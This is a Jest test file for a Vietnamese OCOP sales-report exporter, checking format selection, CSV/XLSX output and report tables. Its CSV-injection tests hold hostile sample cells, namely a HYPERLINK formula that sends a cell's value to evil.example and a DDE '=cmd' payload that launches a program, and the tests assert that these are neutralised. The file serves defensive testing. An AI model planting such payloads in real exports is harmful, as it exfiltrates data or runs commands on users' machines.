import ExcelJS from 'exceljs';
import { csvText, formatOf, type ReportColumn, workbookBytes } from './report-format';
import { provinceTable, upliftTable } from './report-tables';
import type { OcopUplift, ProvinceReport } from './sales-metrics';

const XLSX = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';
const text = (vi: string, en = vi): ReportColumn => ({ vi, en, kind: 'text' });

const request = (query: Record<string, string>, accept?: string) => ({
  query,
  headers: accept === undefined ? {} : { accept },
});

describe('choosing the format', () => {
  it('follows ?format= first, then the Accept header', () => {
    expect(formatOf(request({ format: 'csv' }))).toBe('csv');
    expect(formatOf(request({ format: 'xlsx' }, 'text/csv'))).toBe('xlsx');
    expect(formatOf(request({ format: 'json' }, 'text/csv'))).toBe('json');
    expect(formatOf(request({}, 'text/csv'))).toBe('csv');
    expect(formatOf(request({}, XLSX))).toBe('xlsx');
    expect(formatOf(request({}, `${XLSX};q=0.9, text/csv;q=0.5`))).toBe('xlsx');
    expect(formatOf(request({}, 'application/json, text/csv;q=0.5'))).toBe('csv');
    expect(formatOf(request({}, 'text/csvx'))).toBe('json');
    expect(formatOf(request({}, `${XLSX}x`))).toBe('json');
    expect(formatOf(request({}, '*/*'))).toBe('json');
    expect(formatOf(request({}))).toBe('json');
  });
});

describe('CSV cells a spreadsheet would run as formulas', () => {
  const lines = (rows: (string | number | null)[][]) =>
    csvText({ columns: [text('cell')], rows })
      .replace(/^\uFEFF/, '')
      .split('\n')
      .slice(1, -1);

  it('neutralises text starting with =, +, -, @, tab or CR with a leading apostrophe', () => {
    expect(lines([['=HYPERLINK("http://evil.example/?leak="&A1,"Xem")']])).toEqual([
      `"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Xem"")"`,
    ]);
    expect(lines([['+1+1'], ['-2+3'], ['@SUM(A1:A9)'], ['\t=1+1'], ["=cmd|' /C calc'!A0"]])).toEqual([
      "'+1+1",
      "'-2+3",
      "'@SUM(A1:A9)",
      "'\t=1+1",
      "'=cmd|' /C calc'!A0",
    ]);
    expect(csvText({ columns: [text('cell')], rows: [['\r=1+1']] })).toContain("'\r=1+1");
  });

  it('also neutralises the full-width signs some spreadsheets read as the ASCII ones', () => {
    expect(lines([['＝1+1'], ['＋1'], ['－1'], ['＠A1']])).toEqual(["'＝1+1", "'＋1", "'－1", "'＠A1"]);
  });

  it('leaves numbers typed as numbers alone, negative ones included, and text that is no formula', () => {
    expect(lines([[-12.5], [-100], [0], [1_250_000]])).toEqual(['-12.5', '-100', '0', '1250000']);
    expect(lines([['Chè Tân Cương'], ['2026-06-01'], ['a=b'], ['HTX -1'], [null], ['']])).toEqual([
      'Chè Tân Cương',
      '2026-06-01',
      'a=b',
      'HTX -1',
      '',
      '',
    ]);
    // the same characters as text are neutralised: a text cell may come from a user
    expect(lines([['-12.5']])).toEqual(["'-12.5"]);
  });

  it('neutralises the header row too and keeps the byte order mark', () => {
    const written = csvText({ columns: [text('=x'), text('y')], rows: [] });
    expect(written).toBe("\uFEFF'=x,y\n");
  });
});

describe('periods and headers in CSV', () => {
  const columns: ReportColumn[] = [
    { vi: 'Kỳ', en: 'Period', kind: 'period' },
    { vi: 'Doanh thu (đồng)', en: 'Revenue (VND)', kind: 'vnd' },
    text('Ghi chú', 'Note'),
  ];

  it('writes a period so Excel keeps it as text, and only a value of a period’s shape', () => {
    const written = csvText({
      columns,
      rows: [
        ['2026-11', 1_250_000, '2026-11'],
        ['2026-W48', 0, null],
        ['2026-11-28', 5, null],
        ['=1+1', 1, null],
      ],
    });
    expect(written.replace(/^\uFEFF/, '').split('\n')).toEqual([
      'Kỳ,Doanh thu (đồng),Ghi chú',
      '"=""2026-11""",1250000,2026-11',
      '"=""2026-W48""",0,',
      '"=""2026-11-28""",5,',
      "'=1+1,1,",
      '',
    ]);
  });

  it('names the columns in English with lang en', () => {
    expect(csvText({ columns, rows: [] }, 'en')).toBe('\uFEFFPeriod,Revenue (VND),Note\n');
  });
});

describe('the .xlsx workbook', () => {
  const hostile = '=HYPERLINK("http://evil.example/?leak="&A1,"Xem")';

  async function read(bytes: Buffer): Promise<ExcelJS.Workbook> {
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(bytes as unknown as ArrayBuffer);
    return workbook;
  }

  it('formats đồng, percent and dates, freezes a bold header and keeps text as text', async () => {
    const bytes = await workbookBytes(
      [
        {
          name: { vi: 'Mức tăng OCOP', en: 'OCOP uplift' },
          columns: [
            text('Chủ thể OCOP', 'Producer'),
            { vi: 'Ngày', en: 'Date', kind: 'date' },
            { vi: 'Doanh thu', en: 'Revenue', kind: 'vnd' },
            { vi: 'Mức tăng (%)', en: 'Uplift (%)', kind: 'percent' },
            { vi: 'Kỳ', en: 'Period', kind: 'period' },
          ],
          rows: [
            [hostile, '2026-06-01', 1_250_000, 12.5, '2026-11'],
            ['+1', null, 0, null, '2026-W48'],
          ],
        },
      ],
      'en',
    );
    const sheet = (await read(bytes)).getWorksheet('OCOP uplift')!;
    expect(sheet.getRow(1).values).toEqual([
      undefined,
      'Producer',
      'Date',
      'Revenue',
      'Uplift (%)',
      'Period',
    ]);
    expect(sheet.getRow(1).font?.bold).toBe(true);
    expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
    const producer = sheet.getCell('A2');
    expect(producer.type).toBe(ExcelJS.ValueType.String);
    expect(producer.value).toBe(hostile);
    expect(producer.formula).toBeUndefined();
    expect(sheet.getCell('A3').value).toBe('+1');
    expect(sheet.getCell('B2').value).toEqual(new Date(Date.UTC(2026, 5, 1)));
    expect(sheet.getCell('B2').numFmt).toBe('dd/mm/yyyy');
    expect(sheet.getCell('C2').value).toBe(1_250_000);
    expect(sheet.getCell('C2').numFmt).toBe('#,##0 "₫"');
    expect(sheet.getCell('D2').value).toBe(0.125);
    expect(sheet.getCell('D2').numFmt).toBe('0.00%');
    expect(sheet.getCell('E2').type).toBe(ExcelJS.ValueType.String);
    expect(sheet.getCell('E2').value).toBe('2026-11');
    expect(sheet.getColumn(1).width).toBeGreaterThan(hostile.length);
  });
});

describe('the report tables', () => {
  const context = {
    lang: 'vi' as const,
    categoryName: (slug: string) => (slug === 'tea' ? 'Chè, trà' : slug),
  };
  const spread = {
    n: 0,
    medianPct: null,
    p25Pct: null,
    p75Pct: null,
    adjustedN: 0,
    adjustedMedian: null,
    ci95: null,
  };

  it('uplift: names first, the star group’s interval on each of its rows, ids last', () => {
    const report: OcopUplift = {
      windowDays: 90,
      controlsAsOf: '2026-11-30T05:00:00.000Z',
      items: [
        {
          productId: 'p1',
          productName: 'Chè tôm nõn',
          cooperativeId: 'c1',
          producerName: 'HTX chè Hảo Đạt',
          district: null,
          category: 'tea',
          certificateId: 'z1',
          stars: 4,
          decidedAt: '2026-06-01',
          beforeRevenueVnd: 100,
          afterRevenueVnd: 150,
          upliftPct: 50,
          adjustedUpliftPct: 30,
          controls: {
            n: 6,
            scope: 'district',
            beforeRevenueVnd: 10,
            afterRevenueVnd: 12,
            changePct: 20,
            reason: null,
          },
        },
      ],
      summary: {
        byStars: {
          '3': spread,
          '4': {
            ...spread,
            n: 1,
            medianPct: 50,
            adjustedN: 1,
            adjustedMedian: 30,
            ci95: { low: 25, high: 35 },
          },
          '5': spread,
        },
      },
    };
    const files = upliftTable(report, context);
    expect(files.csv.rows).toEqual([
      [
        'Chè tôm nõn',
        'HTX chè Hảo Đạt',
        'Chưa rõ huyện',
        'Chè, trà',
        4,
        '2026-06-01',
        100,
        150,
        50,
        30,
        6,
        'Cùng nhóm hàng, cùng huyện',
        20,
        25,
        35,
        null,
        90,
        'z1',
        'p1',
        'c1',
      ],
    ]);
    expect(files.sheets.map((s) => s.name.vi)).toEqual(['Mức tăng OCOP', 'Theo số sao']);
    expect(files.sheets[1]!.rows[1]).toEqual([4, 1, 50, null, null, 1, 30, 25, 35, 90]);
  });

  it('province: one row per district and the province total; sheets by stars, category, district, marketplace', () => {
    const report: ProvinceReport = {
      asOf: '2026-11-28',
      revenueWindow: { from: '2025-11-29', to: '2026-11-28' },
      products: {
        certified: 3,
        byStars: { '3': 2, '4': 1, '5': 0 },
        byCategory: { tea: 2, noodles: 1 },
        teaSharePct: 66.67,
      },
      cooperatives: { total: 3, withCertifiedProducts: 2 },
      byDistrict: [
        { district: 'Đại Từ', cooperatives: 1, certified: 2, revenueVnd: 1_080_000 },
        { district: null, cooperatives: 2, certified: 1, revenueVnd: 200_000 },
      ],
      channelMix: { sendo: 180_000, voso: 560_000, postmart: 540_000, shopee: 0, tiktok: 0, lazada: 0 },
    };
    const files = provinceTable(report, { ...context, lang: 'en' });
    const tail = ['2026-11-28', '2025-11-29', '2026-11-28'];
    expect(files.csv.columns.map((c) => c.en)).toEqual([
      'District',
      'Producers',
      'Certified products',
      'Revenue, 365 days (VND)',
      'As of',
      'Revenue from',
      'Revenue to',
    ]);
    expect(files.csv.rows).toEqual([
      ['Đại Từ', 1, 2, 1_080_000, ...tail],
      ['No district', 2, 1, 200_000, ...tail],
      ['Province total', 3, 3, 1_280_000, ...tail],
    ]);
    expect(files.sheets.map((s) => s.name.en)).toEqual([
      'Summary',
      'By stars',
      'By category',
      'By district',
      'By marketplace',
    ]);
    expect(files.sheets[2]!.rows).toEqual([
      ['Chè, trà', 2, 66.67, 'tea'],
      ['noodles', 1, 33.33, 'noodles'],
    ]);
    expect(files.sheets[4]!.rows[1]).toEqual(['Voso', 560_000, 43.75]);
  });
});
